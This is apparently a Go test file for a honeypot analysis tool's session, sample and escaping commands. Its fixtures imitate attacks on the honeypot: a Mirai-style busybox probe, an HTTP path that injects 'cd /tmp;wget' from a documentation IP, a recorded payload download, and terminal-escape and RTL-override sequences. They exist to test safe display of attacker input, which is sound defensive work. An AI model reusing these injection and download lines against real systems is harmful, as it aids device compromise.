package main

import (
	"context"
	"encoding/json"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/honeyscope/honeyscope/internal/session"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/duckstore"
	"github.com/honeyscope/honeyscope/internal/store/remote"
	"github.com/honeyscope/honeyscope/internal/store/storetest"
)

// sessionStore makes a store in Asia/Tokyo holding three sessions: two
// intrusions that dropped the same ELF sample (one with hostile bytes in
// what it typed) and an HTTP probe.
func sessionStore(t *testing.T) (db string, ss []session.Session) {
	t.Helper()
	ctx := context.Background()
	db = filepath.Join(t.TempDir(), "hp.duckdb")
	st, err := duckstore.Open(ctx, db, duckstore.Options{TimeZone: "Asia/Tokyo"})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	t0 := time.Date(2026, 5, 1, 14, 0, 0, 0, time.UTC) // 23:00 in Tokyo
	elf := storetest.ELF("mirai")
	a := storetest.Telnet("aaaa000000000001", "tokyo", netip.MustParseAddr("198.51.100.7"), t0, elf,
		"enable", "system", "shell", "sh", "/bin/busybox ECCHI", "echo -ne '\\x7fELF' > .x; printf \x1b]0;owned\x07\x1b[2J\u202egnp.exe")
	a.Commands[4].Patterns = []string{"busybox-probe"}
	a.Username = "root\x1b[31m"
	b := storetest.Telnet("bbbb000000000002", "osaka", netip.MustParseAddr("203.0.113.9"), t0.Add(26*time.Hour), elf, "sh")
	c := storetest.HTTP("cccc000000000003", "tokyo", netip.MustParseAddr("2001:db8::1"), t0.Add(time.Hour), "/shell?cd+/tmp;wget+http://198.51.100.9/x")
	ss = []session.Session{a, b, c}
	hits := storetest.IntrusionHits("t1", "tokyo", ss, st.Location())
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "t1", Sessions: ss, Hits: hits}); err != nil {
		t.Fatal(err)
	}
	return db, ss
}

// noRawControl fails when out has a control byte other than newline.
func noRawControl(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u202e' {
			t.Errorf("%s: raw control character %U at byte %d", what, r, i)
			return
		}
	}
}

func TestSessionsCommand(t *testing.T) {
	db, ss := sessionStore(t)
	out, err := run(t, "sessions", "--db", db)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 4 || !strings.HasPrefix(lines[0], "start") {
		t.Fatalf("want a header and 3 rows:\n%s", out)
	}
	// Newest first, in Tokyo time.
	for i, want := range []string{"2026-05-03 01:00:00  osaka", "2026-05-02 00:00:00  tokyo", "2026-05-01 23:00:00  tokyo"} {
		if !strings.HasPrefix(lines[i+1], want) {
			t.Errorf("row %d: %q, want it to start with %q", i+1, lines[i+1], want)
		}
	}
	for _, want := range []string{`root\x1b[31m:xc3511`, "intrusion,busybox-probe", "198.51.100.7", "JP Japan", "jaws-shell"} {
		if !strings.Contains(out, want) {
			t.Errorf("sessions: no %q in\n%s", want, out)
		}
	}
	noRawControl(t, "sessions", out)

	// The transcript of the hostile one.
	out, err = run(t, "sessions", "--db", db, "--id", ss[0].ID)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	noRawControl(t, "transcript", out)
	for _, want := range []string{"aaaa000000000001", "198.51.100.7:40001", "login attempts (2)", "admin:admin  failed",
		"commands (6)", "/bin/busybox ECCHI  [busybox-probe]", `printf \x1b]0;owned\x07\x1b[2J\u202egnp.exe`,
		"wget  http://198.51.100.9/bins/x.arm7 → /tmp/x", storetest.SHA256(storetest.ELF("mirai")), "elf32-arm-le"} {
		if !strings.Contains(out, want) {
			t.Errorf("transcript: no %q in\n%s", want, out)
		}
	}
	if strings.Index(out, "enable") > strings.Index(out, "/bin/busybox") {
		t.Errorf("transcript commands out of order:\n%s", out)
	}
	out, err = run(t, "sessions", "--db", db, "--id", ss[2].ID, "--lang", "ja")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"セッション", "HTTPリクエスト (1)", "GET /shell?cd+/tmp;wget+http://198.51.100.9/x HTTP/1.1", "→ 404"} {
		if !strings.Contains(out, want) {
			t.Errorf("ja transcript: no %q in\n%s", want, out)
		}
	}
	if _, err := run(t, "sessions", "--db", db, "--id", "ffff"); err == nil || !strings.Contains(err.Error(), "no session ffff") {
		t.Errorf("unknown id: %v", err)
	}

	// Filters and JSON.
	ids := func(args ...string) []string {
		t.Helper()
		out, err := run(t, append([]string{"sessions", "--db", db, "--format", "json"}, args...)...)
		if err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
		var got []session.Session
		if err := json.Unmarshal([]byte(out), &got); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
		var ids []string
		for _, s := range got {
			ids = append(ids, s.ID[:4])
		}
		return ids
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{nil, "bbbb,cccc,aaaa"},
		{[]string{"--intrusions"}, "bbbb,aaaa"},
		{[]string{"--source", "203.0.113.9"}, "bbbb"},
		{[]string{"--sensor", "tokyo", "--service", "http"}, "cccc"},
		{[]string{"--from", "2026-05-02", "--to", "2026-05-02"}, "cccc"},
		{[]string{"--to", "2026-05-01"}, "aaaa"},
		{[]string{"--limit", "1"}, "bbbb"},
		{[]string{"--source", "192.0.2.200"}, ""},
	} {
		if got := strings.Join(ids(c.args...), ","); got != c.want {
			t.Errorf("sessions %v: %s, want %s", c.args, got, c.want)
		}
	}
	out, err = run(t, "sessions", "--db", db, "--source", "192.0.2.200", "--lang", "ja")
	if err != nil || !strings.Contains(out, "開始") || !strings.Contains(out, "（セッションはありません）") {
		t.Errorf("empty ja list: %v\n%s", err, out)
	}
	for _, bad := range [][]string{{"--source", "nope"}, {"--format", "csv"}, {"--service", "ftp"}, {"--limit", "-1"}, {"--from", "2026-13-01"}} {
		if _, err := run(t, append([]string{"sessions", "--db", db}, bad...)...); err == nil {
			t.Errorf("sessions %v accepted", bad)
		}
	}
	// Stats count the intrusions as a class.
	out, err = run(t, "stats", "--db", db, "--class", "intrusion", "--by", "day,sensor", "--format", "json")
	if err != nil {
		t.Fatal(err)
	}
	var rows []map[string]any
	if err := json.Unmarshal([]byte(out), &rows); err != nil || len(rows) != 2 {
		t.Fatalf("stats --class intrusion: %v\n%s", err, out)
	}
}

func TestSamplesCommand(t *testing.T) {
	db, _ := sessionStore(t)
	sha := storetest.SHA256(storetest.ELF("mirai"))
	for _, args := range [][]string{{"samples"}, {"samples", "list"}} {
		out, err := run(t, append(args, "--db", db)...)
		if err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if len(lines) != 2 || !strings.HasPrefix(lines[1], sha+"  elf32-arm-le") {
			t.Fatalf("%v: want one sample row:\n%s", args, out)
		}
		f := strings.Fields(lines[1])
		// sha, type, size, sessions, first day, time, last day, time, via, sensor, source
		if f[2] != "57" || f[3] != "2" || f[4] != "2026-05-01" || f[6] != "2026-05-03" || f[8] != "download" || f[9] != "tokyo" || f[10] != "198.51.100.7" {
			t.Errorf("%v: row %q", args, lines[1])
		}
	}
	out, err := run(t, "samples", "show", sha[:10], "--db", db)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for _, want := range []string{sha, "203.0.113.9 (JP), 198.51.100.7 (JP)", "/tmp/x", "http://198.51.100.9/bins/x.arm7", "osaka", "aaaa000000000001"} {
		if !strings.Contains(out, want) {
			t.Errorf("samples show: no %q in\n%s", want, out)
		}
	}
	noRawControl(t, "samples show", out)
	out, err = run(t, "samples", "show", sha, "--db", db, "--format", "json", "--lang", "ja")
	if err != nil {
		t.Fatal(err)
	}
	var shown struct {
		Sample   session.Sample
		Sessions []session.Session
	}
	if err := json.Unmarshal([]byte(out), &shown); err != nil || shown.Sample.Count != 2 || len(shown.Sessions) != 2 {
		t.Errorf("samples show --format json: %v\n%s", err, out)
	}
	out, err = run(t, "samples", "--db", db, "--lang", "ja", "--source", "2001:db8::1")
	if err != nil || !strings.Contains(out, "初観測") || !strings.Contains(out, "（検体はありません）") {
		t.Errorf("samples ja, none: %v\n%s", err, out)
	}
	if _, err := run(t, "samples", "show", "00000000", "--db", db); err == nil || !strings.Contains(err.Error(), "no sample") {
		t.Errorf("unknown sample: %v", err)
	}
	if _, err := run(t, "samples", "show", "\x1b[2J", "--db", db); err == nil || strings.Contains(err.Error(), "\x1b") {
		t.Errorf("hostile sample argument: %v", err)
	}
}

// TestSessionsThroughServe reads sessions and samples while an owner
// holds the store.
func TestSessionsThroughServe(t *testing.T) {
	ctx := context.Background()
	db, ss := sessionStore(t)
	st, err := duckstore.Open(ctx, db, duckstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	srv := remote.NewServer(st, nil)
	if err := srv.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer srv.Stop(ctx)
	out, err := run(t, "sessions", "--db", db, "--id", ss[1].ID)
	if err != nil || !strings.Contains(out, "bbbb000000000002") {
		t.Errorf("sessions through the owner: %v\n%s", err, out)
	}
	out, err = run(t, "samples", "--db", db)
	if err != nil || !strings.Contains(out, storetest.SHA256(storetest.ELF("mirai"))) {
		t.Errorf("samples through the owner: %v\n%s", err, out)
	}
}

// FuzzEscapeText: whatever an attacker sent, the escaped text has no
// control or formatting character a terminal would act on, and text
// without any is left as it is.
func FuzzEscapeText(f *testing.F) {
	for _, s := range []string{"", "ls -la", "\x1b[2J", "a\u202eb", "\xff\xfe", "日本語", "echo -ne '\\x7f'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := escapeText(s)
		if !utf8.ValidString(out) {
			t.Fatalf("%q: invalid UTF-8 %q", s, out)
		}
		for _, r := range out {
			if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029' {
				t.Fatalf("%q: %U left in %q", s, r, out)
			}
		}
		clean := utf8.ValidString(s)
		for _, r := range s {
			if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029' {
				clean = false
			}
		}
		if clean && out != s {
			t.Fatalf("%q changed to %q", s, out)
		}
	})
}
